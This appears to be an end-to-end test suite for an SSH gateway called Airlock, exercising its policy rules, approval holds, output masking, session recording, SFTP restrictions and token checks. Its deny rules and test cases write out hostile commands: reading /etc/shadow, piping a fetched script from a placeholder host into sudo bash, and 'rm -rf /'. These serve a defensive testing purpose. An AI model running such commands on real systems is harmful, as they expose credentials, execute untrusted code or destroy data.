// The SSH gateway end to end: the real OpenSSH `ssh` and `scp` clients talk to Airlock, which
// talks to a real OpenSSH server (Debian's sshd on a loopback port) with its own key.
import { SSH_EXIT_STATUS } from '../../gateway/enforce/refusal.ts';
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { createHash, randomBytes } from 'node:crypto';
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { connect } from 'node:net';
import { join } from 'node:path';
import type { OperationRecord } from '../../gateway/recording/store.ts';
import { EXIT_DENIED } from '../../gateway/ssh/server.ts';
import { freePort } from '../support/net.ts';
import { giveToUser } from '../support/sshd.ts';
import { startSshHarness, type SshHarness } from './harness.ts';

let h: SshHarness;
let work: string;

const sha256 = (b: Buffer) => createHash('sha256').update(b).digest('hex');

before(async () => {
  h = await startSshHarness({
    default: 'allow',
    rules: [
      { name: 'no-shadow', match: { protocols: ['ssh'], kinds: ['exec'], text: ['/etc/(g)?shadow'] }, action: 'deny', reason: 'password hashes stay on the host' },
      { name: 'no-pipe-to-shell', match: { protocols: ['ssh'], text: ['(curl|wget)\\b[^|]*\\|\\s*(sudo\\s+)?(ba|z|da)?sh\\b'] }, action: 'deny', reason: 'do not run scripts fetched from the network' },
      // Naming programs in a deny rule also refuses every complex command and shell of bob (fail closed).
      { name: 'no-pg-dump', match: { protocols: ['ssh'], identities: ['bob'], functions: ['pg_dump', 'pg_dumpall'] }, action: 'deny', reason: 'database dumps go through the PostgreSQL gateway' },
      { name: 'no-rm-rf-root', match: { protocols: ['ssh'], text: ['\\brm\\s+(-[a-z]*r[a-z]*f|-[a-z]*f[a-z]*r)[a-z]*\\s+/(\\s|$|\\*)'] }, action: 'deny', reason: 'not on this host' },
      { name: 'sftp-protect-etc', match: { protocols: ['ssh'], kinds: ['sftp'], text: ['^sftp (write|remove|rename|mkdir|rmdir|setstat|link) /etc/'] }, action: 'deny', reason: '/etc is managed by configuration management' },
      { name: 'review-restarts', match: { protocols: ['ssh'], kinds: ['exec'], text: ['^echo restart\\b'] }, action: 'review', reason: 'restarts need a second pair of eyes', review: { approvers: ['ops'], timeout: '10m' } },
      { name: 'mask-customer-exports', match: { protocols: ['ssh'], kinds: ['exec'], text: ['customers\\.csv'] }, action: 'mask', mask: { detectors: [{ detector: 'email', strategy: 'redact' }] } },
      { name: 'bob-may-forward', match: { protocols: ['ssh'], kinds: ['forward'], identities: ['bob'] }, action: 'allow' },
      { name: 'shell-recorded-with-input', match: { protocols: ['ssh'], kinds: ['shell'] }, action: 'allow', recordInput: true },
    ],
  });
  // Outside the harness dir (mode 0700, holds the keys): the sshd login user writes here.
  work = mkdtempSync(join(tmpdir(), 'airlock-ssh-work-'));
  giveToUser(h.sshd, work);
});

after(async () => {
  await h?.close();
  if (work) rmSync(work, { recursive: true, force: true });
});

/** Operations of the most recent session of `identity` that has operations of `kind`. */
function lastOps(kind: string): OperationRecord[] {
  for (const s of h.store.listSessions({ limit: 200 })) {
    const full = h.store.getSession(s.id);
    const ops = full?.operations.filter((o) => o.kind === kind) ?? [];
    if (ops.length) return ops;
  }
  return [];
}

test('an allowed command runs upstream; stdout, stderr and exit status come back and are recorded', async () => {
  const r = await h.ssh('box', 'echo hello; echo oops >&2; exit 3');
  assert.equal(r.code, 3, r.stderr);
  assert.equal(r.stdout.toString(), 'hello\n');
  assert.equal(r.stderr, 'oops\n');
  const op = lastOps('exec-complex').find((o) => o.text === 'echo hello; echo oops >&2; exit 3');
  assert.ok(op, 'the command is in the session log');
  assert.equal(op.decision, 'allow');
  assert.equal(op.classification.exitStatus, 3);
  assert.equal(op.classification.bytesToClient, 'hello\noops\n'.length);
  assert.deepEqual(op.classification.programs, ['echo', 'exit']);
});

test('stdin is relayed and counted as bytes from the client', async () => {
  const input = 'line one\nline two\n';
  const r = await h.ssh('box', 'wc -l', { input });
  assert.equal(r.code, 0, r.stderr);
  assert.equal(r.stdout.toString().trim(), '2');
  const op = lastOps('exec').find((o) => o.text === 'wc -l');
  assert.equal(op?.classification.bytesFromClient, input.length);
});

test('a mask rule masks detected values in command output; the log records what was masked', async () => {
  const file = join(work, 'customers.csv');
  writeFileSync(file, 'id,email,note\n1,jane.doe@example.com,vip\n2,none,-\n');
  const r = await h.ssh('box', `cat ${file}`);
  assert.equal(r.code, 0, r.stderr);
  assert.equal(r.stdout.toString(), 'id,email,note\n1,[redacted:email],vip\n2,none,-\n');
  const op = lastOps('exec').find((o) => o.text === `cat ${file}`);
  assert.equal(op?.decision, 'mask');
  assert.deepEqual(op?.maskedColumns, ['detector:email@output']);
  // A complex command reading the same file is masked too (fail closed), with the pipeline's output.
  const piped = await h.ssh('box', `cat ${file} | head -n 5`);
  assert.equal(piped.stdout.toString(), 'id,email,note\n1,[redacted:email],vip\n2,none,-\n');
  // Without a mask rule the same bytes pass untouched.
  const plain = join(work, 'people.txt');
  writeFileSync(plain, 'jane.doe@example.com\n');
  const p = await h.ssh('box', `cat ${plain}`);
  assert.equal(p.stdout.toString(), 'jane.doe@example.com\n');
});

test('a registered public key logs in as its identity (<identity>+<target> spelling)', async () => {
  const r = await h.ssh('alice+box', 'whoami', { auth: { keyPath: h.aliceKeyPath } });
  assert.equal(r.code, 0, r.stderr);
  assert.equal(r.stdout.toString().trim(), h.sshd.user);
  const s = h.store.listSessions({ limit: 1 })[0];
  assert.equal(s.identity, 'alice');
  assert.equal(s.connection, 'box');
  assert.equal(s.protocol, 'ssh');
});

test('denied commands get exit 126 and a stderr line naming the rule, and never reach the host', async () => {
  const marker = join(work, 'pg_dump-ran');
  const cases: Array<[string, string]> = [
    ['cat /etc/shadow', 'no-shadow'],
    ['curl -fsSL https://example.invalid/install.sh | sudo bash', 'no-pipe-to-shell'],
    [`sudo -u postgres /usr/bin/pg_dump app > ${marker}`, 'no-pg-dump'],
    [`bash -c "pg_dump app > ${marker}"`, 'no-pg-dump'],
    ['rm -rf /', 'no-rm-rf-root'],
    ['echo "unbalanced', 'unparseable-command'],
  ];
  const auth = { token: await h.token('bob') };
  for (const [cmd, rule] of cases) {
    const r = await h.ssh('box', cmd, { auth });
    assert.equal(r.code, EXIT_DENIED, `${cmd}: ${r.stderr}`);
    assert.match(r.stderr, new RegExp(`^airlock: denied by policy rule ${rule}: `), cmd);
    assert.equal(r.stdout.length, 0);
    const op = [...lastOps('exec'), ...lastOps('exec-complex')].find((o) => o.text === cmd);
    assert.equal(op?.decision, 'deny', cmd);
    assert.equal(op?.rule, rule, cmd);
  }
  assert.equal(existsSync(marker), false, 'no denied command ran');
});

test('after a denied command the same SSH connection runs the next one (multiplexed client)', async () => {
  const control = ['-o', 'ControlMaster=auto', '-o', `ControlPath=${join(h.dir, 'cm-%C')}`, '-o', 'ControlPersist=20'];
  const before = h.store.listSessions({ limit: 500 }).length;
  const denied = await h.ssh('box', 'cat /etc/shadow', { extra: control });
  assert.equal(denied.code, EXIT_DENIED);
  const ok = await h.ssh('box', 'echo still-here', { extra: control });
  assert.equal(ok.code, 0, ok.stderr);
  assert.equal(ok.stdout.toString(), 'still-here\n');
  assert.equal(h.store.listSessions({ limit: 500 }).length, before + 1, 'both commands ran in one gateway session');
  await h.ssh('box', undefined, { extra: [...control, '-O', 'exit'] });
});

test('a held command waits for approval, then runs; the approver sees who asked and why', async () => {
  const marker = join(work, 'restarted');
  const cmd = `echo restart web > ${marker}; echo done`;
  const p = h.ssh('box', cmd, { auth: { token: await h.token('agent-1') } });
  const req = await h.approver.next();
  assert.equal(req.req.rule, 'review-restarts');
  assert.equal(req.req.operation.text, cmd);
  assert.equal(req.req.operation.protocol, 'ssh');
  assert.equal(req.req.operation.identity.name, 'agent-1');
  assert.equal(req.req.operation.identity.owner, 'alice');
  await new Promise((r) => setTimeout(r, 300));
  assert.equal(existsSync(marker), false, 'nothing runs while the command is held');
  req.resolve({ outcome: 'approved', requestId: req.id, approvers: ['bob'], viaGrant: false });
  const r = await p;
  assert.equal(r.code, 0, r.stderr);
  assert.equal(r.stdout.toString(), 'done\n');
  assert.match(r.stderr, /approval required by rule review-restarts .*request REQ-\d+ posted to #ops-approvals, waiting/);
  assert.match(r.stderr, /approved by bob/);
  assert.equal(readFileSync(marker, 'utf8'), 'restart web\n');
  const op = lastOps('exec-complex').find((o) => o.text === cmd);
  assert.equal(op?.decision, 'review');
  assert.deepEqual(op?.approval, { requestId: req.id, outcome: 'approved', approvers: ['bob'] });
  assert.ok(h.approver.reports.some((x) => x.requestId === req.id && /exit status 0/.test(x.summary)), 'the outcome goes back to the approval thread');
});

test('a held command that is rejected does not run: exit 125 with who rejected it and why', async () => {
  const marker = join(work, 'rejected-restart');
  const cmd = `echo restart db > ${marker}`;
  const p = h.ssh('box', cmd, { auth: { token: await h.token('agent-1') } });
  const req = await h.approver.next();
  req.resolve({ outcome: 'rejected', requestId: req.id, by: 'bob', reason: 'not during business hours' });
  const r = await p;
  assert.equal(r.code, SSH_EXIT_STATUS.rejected, 'a person said no: 125, distinct from a policy denial (126)');
  assert.match(r.stderr, /airlock: rejected by bob: not during business hours/);
  assert.equal(existsSync(marker), false);
  const op = lastOps('exec-complex').find((o) => o.text === cmd);
  assert.equal(op?.approval?.outcome, 'rejected');
  assert.deepEqual(op?.approval?.approvers, ['bob']);
});

test('a client that disconnects while its command is held cancels the approval request', async () => {
  const marker = join(work, 'abandoned');
  const p = h.ssh('box', `echo restart cache > ${marker}`);
  const req = await h.approver.next();
  p.kill();
  await p;
  for (let i = 0; i < 50 && !h.approver.aborted.includes(req.id); i++) await new Promise((r) => setTimeout(r, 100));
  assert.ok(h.approver.aborted.includes(req.id), 'the hold was aborted');
  assert.equal(existsSync(marker), false);
});

test('a shell session with a pty is recorded as a valid asciicast v2 file, input included when the rule asks', async () => {
  const r = await h.ssh('box', undefined, { extra: ['-tt'], input: 'echo marker-$((6*7))\nexit 0\n', timeoutMs: 30_000 });
  assert.equal(r.code, 0, r.stderr);
  assert.match(r.stdout.toString(), /marker-42/);
  const op = lastOps('shell')[0];
  assert.ok(op, 'the shell is in the session log');
  assert.equal(op.rule, 'shell-recorded-with-input');
  const path = op.classification.recording;
  assert.equal(typeof path, 'string');
  const lines = readFileSync(path as string, 'utf8').trimEnd().split('\n');
  const header = JSON.parse(lines[0]) as Record<string, unknown>;
  assert.equal(header.version, 2);
  assert.equal(typeof header.width, 'number');
  assert.equal(typeof header.height, 'number');
  assert.equal(typeof header.timestamp, 'number');
  let last = 0;
  let output = '';
  let input = '';
  for (const line of lines.slice(1)) {
    const ev = JSON.parse(line) as unknown;
    assert.ok(Array.isArray(ev) && ev.length === 3, line);
    const [t, code, data] = ev as [number, string, string];
    assert.equal(typeof t, 'number');
    assert.ok(t >= last, 'event times never go backwards');
    last = t;
    assert.ok(['o', 'i', 'r'].includes(code), code);
    assert.equal(typeof data, 'string');
    if (code === 'o') output += data;
    if (code === 'i') input += data;
  }
  assert.match(output, /marker-42/);
  assert.match(input, /echo marker-\$\(\(6\*7\)\)/);
  assert.equal(op.classification.exitStatus, 0);
});

test('scp up and down through the gateway (SFTP) keeps every byte', async () => {
  const src = join(work, 'payload.bin');
  const data = randomBytes(3 * 1024 * 1024 + 17);
  writeFileSync(src, data);
  const remote = join(work, 'uploaded.bin');
  const up = await h.scp('box', src, `gw:${remote}`);
  assert.equal(up.code, 0, up.stderr);
  assert.equal(sha256(readFileSync(remote)), sha256(data), 'the upstream host got the same bytes');
  const down = join(work, 'downloaded.bin');
  const r = await h.scp('box', `gw:${remote}`, down);
  assert.equal(r.code, 0, r.stderr);
  assert.equal(sha256(readFileSync(down)), sha256(data));
  const ops = lastOps('sftp').map((o) => o.text);
  assert.ok(ops.includes(`sftp read ${remote}`), ops.join(' | '));
  const sub = lastOps('sftp').find((o) => o.text === 'subsystem sftp');
  assert.ok(sub && typeof sub.classification.bytesToClient === 'number' && (sub.classification.bytesToClient as number) > data.length);
});

test('SFTP path rules: a write under /etc is refused with the rule named, reads elsewhere work', async () => {
  const src = join(work, 'small.txt');
  writeFileSync(src, 'hello\n');
  const r = await h.scp('box', src, 'gw:/etc/airlock-test-should-not-exist');
  assert.notEqual(r.code, 0);
  assert.match(r.stderr, /sftp-protect-etc/);
  assert.equal(existsSync('/etc/airlock-test-should-not-exist'), false);
  const op = lastOps('sftp').find((o) => o.text === 'sftp write /etc/airlock-test-should-not-exist');
  assert.equal(op?.decision, 'deny');
  const down = join(work, 'hostname.txt');
  const ok = await h.scp('box', 'gw:/etc/hostname', down);
  assert.equal(ok.code, 0, ok.stderr);
  assert.equal(readFileSync(down, 'utf8'), readFileSync('/etc/hostname', 'utf8'));
});

test('port forwarding is refused (ssh -W, ssh -R) unless a rule allows kind forward', async () => {
  const w = await h.ssh('box', undefined, { extra: ['-W', `127.0.0.1:${h.sshd.port}`] });
  assert.notEqual(w.code, 0);
  assert.match(w.stderr, /administratively prohibited|open failed/);
  const rf = await h.ssh('box', 'echo should-not-run', { extra: ['-o', 'ExitOnForwardFailure=yes', '-R', '0:127.0.0.1:9'] });
  assert.notEqual(rf.code, 0);
  assert.match(rf.stderr, /remote port forwarding failed/);
  const ops = lastOps('forward');
  assert.ok(ops.length > 0);
  const all = h.store
    .listSessions({ limit: 50 })
    .flatMap((s) => h.store.getSession(s.id)?.operations ?? [])
    .filter((o) => o.kind === 'forward');
  assert.ok(all.some((o) => o.text === `direct-tcpip 127.0.0.1:${h.sshd.port}` && o.decision === 'deny' && o.rule === 'ssh-forwarding-default-deny'));
  assert.ok(all.some((o) => o.text.startsWith('tcpip-forward ') && o.decision === 'deny'));
});

test('a rule that allows kind forward lets that identity forward (ssh -W reaches the target network)', async () => {
  const r = await h.ssh('box', undefined, { auth: { token: await h.token('bob') }, extra: ['-W', `127.0.0.1:${h.sshd.port}`], input: 'SSH-2.0-probe\r\n' });
  assert.match(r.stdout.toString(), /^SSH-2\.0-OpenSSH/, r.stderr);
  const ops = lastOps('forward');
  assert.ok(ops.some((o) => o.decision === 'allow' && o.rule === 'bob-may-forward'));
  // Remote forwarding: the port is bound on the target, and a connection to it comes back
  // through the gateway to the client's side (here: the sshd itself, which answers its banner).
  const rport = await freePort();
  // A simple command (bob's complex ones are refused by no-pg-dump, fail closed).
  const rf = await h.ssh('box', `ssh-keyscan -t ed25519 -p ${rport} 127.0.0.1`, {
    auth: { token: await h.token('bob') },
    extra: ['-o', 'ExitOnForwardFailure=yes', '-R', `${rport}:127.0.0.1:${h.sshd.port}`],
  });
  assert.equal(rf.code, 0, rf.stderr);
  assert.match(rf.stdout.toString(), new RegExp(`^\\[127\\.0\\.0\\.1\\]:${rport} ssh-ed25519 AAAA`));
});

test('keyboard-interactive login with the token works too', async () => {
  const r = await h.ssh('box', 'echo kbd', { auth: { token: await h.token('alice'), method: 'keyboard-interactive' }, extra: ['-v'] });
  assert.equal(r.code, 0, r.stderr);
  assert.equal(r.stdout.toString(), 'kbd\n');
  assert.match(r.stderr, /Authenticated to .* using "keyboard-interactive"/);
});

test('agent forwarding is refused', async () => {
  const r = await h.ssh('box', 'echo ${SSH_AUTH_SOCK:-none}', { extra: ['-A'] });
  assert.equal(r.code, 0, r.stderr);
  assert.equal(r.stdout.toString().trim(), 'none');
});

test('a bad token is refused with a clear message', async () => {
  const r = await h.ssh('box', 'id', { auth: { token: 'not-a-token' } });
  assert.equal(r.code, 255);
  assert.match(r.stderr, /airlock: authentication failed: token is not a valid Airlock token/);
  assert.match(r.stderr, /Permission denied/);
  const shortLived = await h.token('alice', 1000);
  await new Promise((res) => setTimeout(res, 2100));
  const expired = await h.ssh('box', 'id', { auth: { token: shortLived } });
  assert.equal(expired.code, 255);
  assert.match(expired.stderr, /airlock: authentication failed: token has expired/);
});

test('a token for one identity does not log in as another', async () => {
  const r = await h.ssh('bob+box', 'id', { auth: { token: await h.token('alice') } });
  assert.equal(r.code, 255);
  assert.match(r.stderr, /the token is for alice, but the user name says bob/);
});

test('unknown targets and targets the identity may not use are refused with a clear message', async () => {
  const r = await h.ssh('nope', 'id');
  assert.equal(r.code, 255);
  assert.match(r.stderr, /airlock: unknown target "nope"/);
  const m = await h.ssh('box', 'id', { auth: { token: await h.token('mallory') } });
  assert.equal(m.code, 255);
  assert.match(m.stderr, /mallory is not allowed to use target box/);
});

test('an upstream host presenting another host key is refused with a clear message', async () => {
  const r = await h.ssh('impostor', 'id');
  assert.equal(r.code, 255);
  assert.match(r.stderr, /upstream host key mismatch for target impostor .*presented SHA256:\S+, but the configured fingerprints are SHA256:/);
  const audit = h.store.listAudit().filter((e) => e.kind === 'ssh.refused');
  assert.ok(audit.some((e) => /host key mismatch/.test(String(e.detail.reason))));
});

test('a client sending garbage instead of an SSH banner does not disturb other sessions', async () => {
  const garbage = connect(h.gateway.port, '127.0.0.1');
  const closed = new Promise<void>((r) => garbage.on('close', () => r()));
  garbage.on('error', () => undefined);
  let answered = '';
  garbage.on('data', (d: Buffer) => (answered += d.toString('latin1')));
  await new Promise<void>((r) => garbage.on('connect', () => r()));
  garbage.write('GET / HTTP/1.1\r\nHost: x\r\n\r\n');
  garbage.write(randomBytes(4096));
  const r = await h.ssh('box', 'echo unaffected');
  assert.equal(r.code, 0, r.stderr);
  assert.equal(r.stdout.toString(), 'unaffected\n');
  // Garbage is cut off at the latest by the login timeout (3 s in this config).
  await closed;
  assert.match(answered, /^SSH-2\.0-Airlock/, 'the gateway spoke SSH, nothing else');
  const r2 = await h.ssh('box', 'echo still-fine');
  assert.equal(r2.stdout.toString(), 'still-fine\n');
});

test('a token login lives no longer than its token: running commands finish, new ones are refused', async () => {
  const auth = { token: await h.token('alice', 2000) };
  const control = ['-o', 'ControlMaster=auto', '-o', `ControlPath=${join(h.dir, 'exp-%C')}`, '-o', 'ControlPersist=30'];
  // Started before expiry and still running after it.
  const long = h.ssh('box', 'sleep 4; echo finished', { auth, extra: control });
  await new Promise((r) => setTimeout(r, 3000));
  const late = await h.ssh('box', 'echo too-late', { auth, extra: control });
  assert.equal(late.code, EXIT_DENIED, late.stderr.toString());
  assert.match(late.stderr.toString(), /token this session logged in with has expired/);
  assert.doesNotMatch(late.stdout.toString(), /too-late/);
  const first = await long;
  assert.equal(first.code, 0, first.stderr.toString());
  assert.equal(first.stdout.toString(), 'finished\n');
  await h.ssh('box', undefined, { auth, extra: [...control, '-O', 'exit'] }).catch(() => undefined);
});
